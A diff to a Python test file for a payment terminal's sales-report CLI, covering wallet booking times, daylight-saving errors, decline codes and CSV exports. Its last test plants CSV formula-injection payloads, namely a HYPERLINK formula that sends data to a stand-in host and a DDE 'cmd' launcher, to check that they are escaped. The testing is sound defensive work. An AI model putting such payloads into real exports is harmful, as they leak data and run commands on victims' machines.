@@ -6,10 +6,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import re
 import sys
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 from PIL import Image
@@ -18,9 +21,11 @@ from terminal.cli import main
 from terminal.config import load_config
 from terminal.emulator.wallet import WalletEmulator
 from terminal.journal import Journal, SaleRecord
+from terminal.report import declines
 from terminal.report.chart import INSTALL_HINT
-from terminal.report.export import CSV_FIELDS
+from terminal.report.export import CSV_FIELDS, text_cell
 from terminal.report.period import PeriodError, parse_time, period
+from terminal.report.shift import NO_PRICE_LIST, NO_PRICE_LIST_NOTE
 from terminal.wallet.catalog import CACHE_KEY
 from tests.terminal_lab import ERIKA, MAX, REPO, write_config
 
@@ -110,7 +115,9 @@ def test_the_json_report_counts_every_sale_once_to_the_cent(
             "since",
             "until",
             "currency",
+            "times",
             "products",
+            "prices_cached",
             "debits",
             "topups",
             "table_bills",
@@ -159,9 +166,13 @@ def test_the_json_report_counts_every_sale_once_to_the_cent(
         "offline": {"count": 1, "cents": 350},
     }
     assert data["rejected"] == [{"reason": "400: Insufficient balance", "count": 1, "cents": 250}]
-    assert data["declined"] == [{"reason": "offline: balance too low", "count": 1}]  # 20:00 is out
+    # 20:00 is out
+    assert data["declined"] == [
+        {"code": "offline_balance_too_low", "reason": "offline: balance too low", "count": 1}
+    ]
     assert data["not_served"] == {"count": 1, "cents": 600}
-    assert data["wallet"] == {"net_cents": 1000 - 250 - 600, "transactions": 3}
+    assert data["wallet"] == {"net_cents": 1000 - 250 - 600, "transactions": 3, "time": "booked"}
+    assert data["times"] == {"sales": "journaled", "hours": "journaled", "wallet": "booked"}
     assert [(h["hour"][11:16], h["debits"], h["topups"]) for h in data["hours"]] == [
         (
             datetime(2025, 6, 1, 18, tzinfo=UTC).astimezone().strftime("%H:%M"),
@@ -199,7 +210,11 @@ def test_an_empty_period_reports_nothing_sold(config: Path, capsys: pytest.Captu
         capsys, "report", "--config", str(config), "--since", "2030-01-01", "--format", "json"
     )
     data = json.loads(out)
-    assert (data["products"], data["hours"], data["wallet"]) == ([], [], {"net_cents": 0, "transactions": 0})
+    assert (data["products"], data["hours"], data["wallet"]) == (
+        [],
+        [],
+        {"net_cents": 0, "transactions": 0, "time": "booked"},
+    )
 
 
 def test_the_csv_report_reads_back_with_the_csv_module(
@@ -333,3 +348,253 @@ def test_the_terminal_itself_never_loads_the_report_libraries() -> None:
     )
     out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True, cwd=REPO)
     assert out.stdout.strip() == "[]", out.stdout
+
+
+def _report_json(capsys: pytest.CaptureFixture[str], config: Path, since: str, until: str) -> dict[str, Any]:
+    code, out, err = _run(
+        capsys, "report", "--config", str(config), "--format", "json", "--since", since, "--until", until
+    )
+    assert (code, err) == (0, "")
+    data: dict[str, Any] = json.loads(out)
+    return data
+
+
+def test_the_wallet_figure_counts_a_sale_in_the_period_the_wallet_booked_it(
+    config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An offline tap at 23:58 delivered at 00:03 is the next day's on pretix; a sale booked before midnight
+    and settled by hand after it stays the first day's (its ``updated_at`` moved, its booking did not)."""
+    journal = Journal.open(load_config(config).journal_path)
+    late = datetime(2025, 6, 1, 23, 58, tzinfo=UTC)
+    delivered = late + timedelta(minutes=5)
+    offline = journal.record_sale(
+        token_id=MAX, products=["latte"], amount_cents=-350, description="Bar", tag=None, offline=True
+    )
+    journal.execute(
+        "UPDATE sales SET created_at = ? WHERE id = ?", (late.isoformat(timespec="milliseconds"), offline.id)
+    )
+    journal.mark_attempt(offline.id, 2000, at=delivered.timestamp())  # the outbox delivers it at 00:03
+    journal.mark_done(offline.id, 1650)
+    held = journal.record_sale(
+        token_id=ERIKA,
+        products=["espresso"],
+        amount_cents=-250,
+        description="Bar",
+        tag=None,
+        offline=False,
+        attempting=True,
+        attempted_at=(late - timedelta(minutes=1)).timestamp(),
+    )
+    journal.execute(
+        "UPDATE sales SET created_at = ? WHERE id = ?",
+        ((late - timedelta(minutes=1)).isoformat(timespec="milliseconds"), held.id),
+    )
+    journal.hold(held.id, "unclear whether booked")
+    assert journal.settle_held(held.idempotency_key, booked=True)
+    journal.execute(
+        "UPDATE sales SET updated_at = ? WHERE id = ?",
+        (delivered.isoformat(timespec="milliseconds"), held.id),
+    )
+    journal.close()
+
+    first = _report_json(capsys, config, "2025-06-01T00:00+00:00", "2025-06-02T00:00+00:00")
+    second = _report_json(capsys, config, "2025-06-02T00:00+00:00", "2025-06-03T00:00+00:00")
+    # the fixture's shift (1000 - 250 - 600, 3 transactions) and the held sale booked at 23:57
+    assert first["wallet"] == {"net_cents": 150 - 250, "transactions": 4, "time": "booked"}
+    assert second["wallet"] == {"net_cents": -350, "transactions": 1, "time": "booked"}
+    # the sales themselves stay where they were journaled: the offline latte on the first day
+    latte = next(p for p in first["products"] if p["product"] == "latte")
+    assert latte["confirmed"] == {"count": 2, "cents": 700} and second["products"] == []
+    assert (
+        first["times"] == second["times"] == {"sales": "journaled", "hours": "journaled", "wallet": "booked"}
+    )
+    code, out, _ = _run(capsys, "report", "--config", str(config), "--since", "2025-06-02T00:00+00:00")
+    assert code == 0 and "Wallet server should show for this terminal: -3.50 EUR net" in out
+    assert "1 transaction(s) the wallet booked in this period;" in out
+    assert "a sale counts when the wallet booked it, as pretix dates it, not when it was journaled" in out
+
+
+def test_without_a_cached_price_list_products_are_named_by_id_and_say_so(
+    config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    journal = Journal.open(load_config(config).journal_path)
+    journal.execute("DELETE FROM cache WHERE key = ?", (CACHE_KEY,))
+    journal.close()
+    data = _report_json(capsys, config, *SHIFT[1::2])
+    assert data["prices_cached"] is False
+    names = {p["product"]: p["name"] for p in data["products"]}
+    assert names == {
+        "espresso": f"espresso {NO_PRICE_LIST}",
+        "espresso+latte": f"espresso + latte {NO_PRICE_LIST}",  # no prices: the cart is not split
+        "latte": f"latte {NO_PRICE_LIST}",
+        "topup_10": f"topup_10 {NO_PRICE_LIST}",
+    }
+    code, out, _ = _run(capsys, "report", "--config", str(config), *SHIFT)
+    assert code == 0
+    assert f"espresso {NO_PRICE_LIST}" in out
+    assert [line for line in out.splitlines() if "no price list cached:" in line] == [NO_PRICE_LIST_NOTE]
+
+
+def test_the_csv_report_says_what_each_count_counts_and_splits_products_online_and_offline(
+    config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    by_kind = {(r["kind"], r["key"]): r for r in rows}
+    latte, espresso = by_kind[("product-debit", "latte")], by_kind[("product-debit", "espresso")]
+    assert [latte[c] for c in ("online_count", "online_cents", "offline_count", "offline_cents")] == [
+        "1",
+        "350",
+        "1",
+        "350",
+    ]
+    assert [espresso[c] for c in ("online_count", "offline_count")] == ["3", "0"]
+    products = [r for r in rows if r["kind"] == "product-debit"]
+    debits = by_kind[("debits", "")]
+    for part in ("online", "offline"):
+        assert sum(int(r[f"{part}_cents"]) for r in products) == int(debits[f"{part}_cents"])
+    assert {r["kind"]: r["counted"] for r in rows} == {
+        "product-debit": "units",
+        "product-topup": "units",
+        "debits": "sales",
+        "topups": "sales",
+        "table-bills": "sales",
+        "booked-elsewhere": "sales",
+        "not-served": "sales",
+        "refunded": "sales",
+        "served-by-hand": "sales",
+        "rejected": "sales",
+        "declined": "taps",
+        "hour-debits": "sales",
+        "hour-topups": "sales",
+        "wallet-net": "transactions",
+    }
+    declined = [r for r in rows if r["kind"] == "declined"]
+    assert [(r["key"], r["name"], r["count"]) for r in declined] == [
+        ("offline_balance_too_low", "offline: balance too low", "1")
+    ]
+    data = _report_json(capsys, config, *SHIFT[1::2])
+    online_offline = {p["product"]: (p["online"], p["offline"]) for p in data["products"]}
+    assert online_offline["latte"] == ({"count": 1, "cents": 350}, {"count": 1, "cents": 350})
+
+
+def test_times_the_clocks_skip_or_show_twice_are_refused_with_the_offsets_to_give() -> None:
+    from zoneinfo import ZoneInfo
+
+    berlin = ZoneInfo("Europe/Berlin")
+    with pytest.raises(PeriodError) as skipped:
+        parse_time("2026-03-29T02:30", "--since", zone=berlin)
+    assert str(skipped.value) == (
+        "--since '2026-03-29T02:30': 2026-03-29T02:30 does not exist in time zone Europe/Berlin (the clocks "
+        "skip it); give an offset, e.g. 2026-03-29T02:30+01:00, or a time outside the skipped hour"
+    )
+    with pytest.raises(PeriodError) as twice:
+        period(None, "2026-10-25T02:30", zone=berlin)
+    assert str(twice.value) == (
+        "--until '2026-10-25T02:30': 2026-10-25T02:30 happens twice in time zone Europe/Berlin (the clocks "
+        "go back); give an offset: 2026-10-25T02:30+02:00 for the first, "
+        "2026-10-25T02:30+01:00 for the second"
+    )
+    # the fixes it names are taken, and the hours around the changes are as before
+    assert parse_time("2026-10-25T02:30+01:00", "--until", zone=berlin) == datetime(
+        2026, 10, 25, 1, 30, tzinfo=UTC
+    )
+    assert parse_time("2026-03-29T03:00", "--since", zone=berlin) == datetime(2026, 3, 29, 1, 0, tzinfo=UTC)
+    assert parse_time("2026-10-25T03:30", "--since", zone=berlin) == datetime(2026, 10, 25, 2, 30, tzinfo=UTC)
+    assert parse_time("2026-03-29", "--since", zone=berlin) == datetime(2026, 3, 28, 23, 0, tzinfo=UTC)
+
+
+def test_the_machines_own_zone_refuses_them_too_in_one_line(config: Path) -> None:
+    """``taptill report`` reads a time without an offset in the machine's zone (TZ here): a subprocess."""
+    import subprocess
+
+    env = {**os.environ, "TZ": "Europe/Berlin", "PYTHONPATH": str(REPO)}
+    for when, says in (("2026-03-29T02:30", "does not exist"), ("2026-10-25T02:30", "happens twice")):
+        cmd = [
+            sys.executable,
+            "-m",
+            "terminal",
+            "report",
+            "--config",
+            str(config),
+            "--since",
+            when,
+        ]
+        out = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=REPO)
+        assert out.returncode == 2 and out.stdout == "", out
+        assert out.stderr.startswith(f"taptill: --since '{when}': {when} {says} in the local time zone")
+        assert out.stderr.count("\n") == 1
+
+
+def test_every_decline_the_terminal_journals_has_a_stable_code() -> None:
+    from terminal.config import OfflineConfig
+    from terminal.controller.offline_policy import decide_offline
+    from terminal.journal import OfflineView, offline_reason
+    from terminal.model import DeclineReason
+
+    def view(**kw: Any) -> OfflineView:
+        seen: dict[str, Any] = dict(
+            last_balance=1000,
+            balance_age_s=10.0,
+            card_unconfirmed_cents=0,
+            total_unconfirmed_cents=0,
+            unconfirmed_count=0,
+            denied_reason=None,
+        )
+        return OfflineView(**{**seen, **kw})
+
+    policy = OfflineConfig()
+    said = {
+        decide_offline(view(), 250, OfflineConfig(mode="decline")).reason: declines.OFFLINE_POLICY,
+        decide_offline(view(denied_reason="lost"), 250, policy).reason: declines.OFFLINE_CARD_DENIED,
+        decide_offline(view(last_balance=None), 250, policy).reason: declines.OFFLINE_NEVER_SEEN,
+        decide_offline(view(balance_age_s=1e9), 250, policy).reason: declines.OFFLINE_BALANCE_OLD,
+        decide_offline(view(card_unconfirmed_cents=10**9), 250, policy).reason: declines.OFFLINE_CARD_LIMIT,
+        decide_offline(
+            view(total_unconfirmed_cents=10**9), 250, policy
+        ).reason: declines.OFFLINE_TERMINAL_LIMIT,
+        decide_offline(view(last_balance=100), 250, policy).reason: declines.OFFLINE_BALANCE_LOW,
+        # the controller's own notes (terminal/controller/core.py, topup.py, device_loop.py)
+        offline_reason("top-up limit ([topup] max_offline_credit_cents)"): declines.OFFLINE_TOPUP_LIMIT,
+        offline_reason(
+            "this sale is never made without the wallet server's word"
+        ): declines.OFFLINE_NEEDS_WALLET,
+        offline_reason("the server cannot book product espresso, latte"): declines.OFFLINE_UNSELLABLE,
+        "an earlier sale of this card is still being confirmed by the wallet": "earlier_pending",
+        "operator olga: 6000 cents would pass [topup] max_credit_per_unlock_cents = 5000; lock and "
+        "unlock again": declines.CREDIT_LIMIT_UNLOCK,
+        "operator olga: shift cap 5000 cents reached (4000 credited today)": declines.CREDIT_LIMIT_SHIFT,
+        "a note from a later version": declines.OTHER,
+        "": declines.OTHER,
+    }
+    said.update({str(r): str(r) for r in DeclineReason})  # the guest's codes are codes already
+    assert {reason: declines.decline_code(reason) for reason in said} == said
+    codes = [c for r, c in said.items() if c != declines.OTHER]
+    assert all(re.fullmatch(r"[a-z_]+", c) for c in codes)
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_both_exports(
+    config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    journal = Journal.open(load_config(config).journal_path)
+    products = [{**PRODUCTS[0], "name": attack}, *PRODUCTS[1:]]
+    journal.cache_put(CACHE_KEY, {"permission": "all", "products": products})
+    journal.execute("UPDATE sales SET reason = ? WHERE state = 'rejected'", ("@SUM(1+1)*cmd|' /C calc'!A0",))
+    journal.close()
+    code, out, _ = _run(capsys, "report", "--config", str(config), "--format", "csv", *SHIFT)
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    by_kind = {(r["kind"], r["key"]): r for r in rows}
+    assert by_kind[("product-debit", "espresso")]["name"] == "'" + attack
+    rejected = next(r for r in rows if r["kind"] == "rejected")
+    assert rejected["key"] == rejected["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_kind[("wallet-net", "")]["cents"] == "150"  # numbers stay numbers
+    code, out, _ = _run(capsys, "journal", "--csv", "--config", str(config), "--state", "rejected")
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert (row["reason"], row["amount_cents"]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "-250")
+    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
+        assert text_cell(f"{start}1+2").startswith("'"), repr(start)
+    assert [text_cell(t) for t in ("Espresso", "1+2", "", "a=b")] == ["Espresso", "1+2", "", "a=b"]
